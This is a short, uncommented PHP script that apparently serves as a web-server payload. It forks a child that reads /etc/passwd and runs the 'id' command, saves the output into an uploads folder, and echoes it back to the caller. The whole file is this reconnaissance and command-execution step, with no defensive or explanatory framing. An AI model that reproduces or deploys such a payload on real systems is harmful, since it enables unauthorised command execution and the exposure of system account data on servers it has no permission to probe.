<?php
$pid = pcntl_fork();
if ($pid === 0) {
    file_put_contents(__DIR__ . '/uploads/child', json_encode([@file_get_contents('/etc/passwd'), @exec('id')]));
    exit;
}
pcntl_waitpid($pid, $s);
echo file_get_contents(__DIR__ . '/uploads/child');
